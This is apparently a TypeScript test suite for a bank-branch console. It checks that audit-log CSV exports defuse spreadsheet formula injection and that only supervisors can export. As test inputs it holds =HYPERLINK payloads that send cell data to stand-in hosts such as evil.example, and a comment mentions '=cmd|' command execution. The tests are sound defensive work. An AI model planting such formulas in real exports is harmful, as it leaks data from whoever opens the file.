// Attack: CSV (formula) injection. Text typed at the counter — a customer's name on a new
// contract, the reason of a written request, a rejection note — ends up in the audit log and
// from there in the CSV a supervisor opens in a spreadsheet. A cell that starts with =, +, -, @
// (or a tab or carriage return) runs as a formula there (=HYPERLINK to exfiltrate, =cmd|… on
// old Excel). Every cell is quoted (RFC 4180) and such a cell gets a leading apostrophe; quotes
// and line breaks inside a cell cannot end it early.
import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, it } from 'node:test';
import fc from 'fast-check';
import { DIALECTS, skipReason } from '../../test/support/db/testing.js';
import { csvCell, csvRow } from '../shared/csv.js';
import { createConsoleHarness, DEMO, type ConsoleHarness } from '../../test/support/branch/web/branch-console-testing.js';

/** A minimal RFC 4180 reader, to check that what we write reads back cell for cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    assert.equal(text[i], '"', `cell at ${i} is quoted`);
    let cell = '';
    i += 1;
    for (;;) {
      if (text[i] === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (text[i] === '"') {
        i += 1;
        break;
      } else {
        cell += text[i];
        i += 1;
      }
    }
    row.push(cell);
    if (text[i] === ',') i += 1;
    else {
      assert.equal(text.slice(i, i + 2), '\r\n');
      i += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('CSV cells', () => {
  for (const dangerous of ['=1+1', '+SUM(A1)', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil/?"&A1,"x")']) {
    it(`neutralises ${JSON.stringify(dangerous)}`, () => {
      const cell = csvCell(dangerous);
      assert.ok(cell.startsWith(`"'`), cell);
      assert.deepEqual(parseCsv(csvRow([dangerous])), [[`'${dangerous}`]]);
    });
  }

  it('leaves ordinary text alone and reads back exactly (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 6 }), (cells) => {
        const [parsed] = parseCsv(csvRow(cells));
        assert.deepEqual(parsed, cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
      }),
    );
  });
});

for (const dialect of DIALECTS) {
  describe(`the audit CSV export [${dialect}]`, { skip: skipReason(dialect) }, () => {
    let h: ConsoleHarness;
    beforeEach(async () => { h = await createConsoleHarness(dialect); });
    afterEach(() => h.close());

    it('exports filtered lines with formulas neutralised, and audits the export', async () => {
      const teller = await h.signIn('demo', 'teller');
      await teller.get(`/branch/demo/customers/${DEMO.contractId}`);
      const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
      const r = await teller.post(`/branch/demo/customers/${DEMO.contractId}/actions/suspend`, { requestFormNo: 'R-1', reason: evil });
      assert.equal(r.statusCode, 303);
      const supervisor = await h.signIn('demo', 'supervisor');
      const csv = await supervisor.get(`/branch/demo/audit.csv?customer=${DEMO.contractId}&action=customer_suspended`);
      assert.equal(csv.statusCode, 200);
      assert.match(String(csv.headers['content-type']), /^text\/csv; charset=utf-8/);
      assert.match(String(csv.headers['content-disposition']), /^attachment; filename="audit-demo-\d{4}-\d{2}-\d{2}\.csv"$/);
      assert.equal(csv.headers['cache-control'], 'no-store');
      assert.ok(csv.body.startsWith('\uFEFF'));
      const rows = parseCsv(csv.body.slice(1));
      assert.deepEqual(rows[0], ['seq', 'at_jst', 'actor', 'action', 'subject', 'details']);
      assert.equal(rows.length, 2, 'one matching line');
      const [, at, actor, action, subject, details] = rows[1]!;
      assert.match(at!, /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      assert.deepEqual([actor, action, subject], ['operator:teller', 'customer_suspended', DEMO.contractId]);
      assert.equal(JSON.parse(details!).reason, evil, 'the value itself is kept, inside its JSON');
      // Whatever column a typed text lands in (today: inside the JSON of `details`), no cell of
      // the export may start a formula.
      for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
      const exported = await h.database.db.selectFrom('audit_log').select(['actor', 'details']).where('action', '=', 'audit_exported').execute();
      assert.deepEqual(exported.map((e) => e.actor), ['operator:supervisor']);
      assert.equal(JSON.parse(exported[0]!.details).rows, 1);
    });

    it('the viewer pages and filters; tellers may not export', async () => {
      const teller = await h.signIn('demo', 'teller');
      assert.equal((await teller.get('/branch/demo/audit.csv')).statusCode, 403);
      for (let i = 0; i < 60; i++) {
        await teller.post(`/branch/demo/customers/${DEMO.contractId}/actions/change_limit`, { requestFormNo: `R-${i}`, reason: 'x', newLimitYen: String((i % 2 === 0 ? 10 : 20) * 10_000) });
      }
      const supervisor = await h.signIn('demo', 'supervisor');
      const first = await supervisor.get('/branch/demo/audit?operator=teller&action=daily_limit_lowered');
      assert.equal(first.statusCode, 200);
      assert.match(first.body, /ページ 1 \/ 1/);
      const all = await supervisor.get('/branch/demo/audit?operator=TELLER');
      assert.match(all.body, /ページ 1 \/ 2/);
      assert.match(all.body, /rel="next" href="\/branch\/demo\/audit\?operator=teller&amp;page=2"/);
      const second = await supervisor.get('/branch/demo/audit?operator=teller&page=2');
      assert.match(second.body, /ページ 2 \/ 2/);
      const bad = await supervisor.get('/branch/demo/audit?customer=abc');
      assert.equal(bad.statusCode, 400);
      const otherInstitution = await supervisor.get('/branch/demo/audit?customer=1000000001');
      assert.doesNotMatch(otherInstitution.body, /operator:teller<\/td><td><code>customer_created/);
    });
  });
}
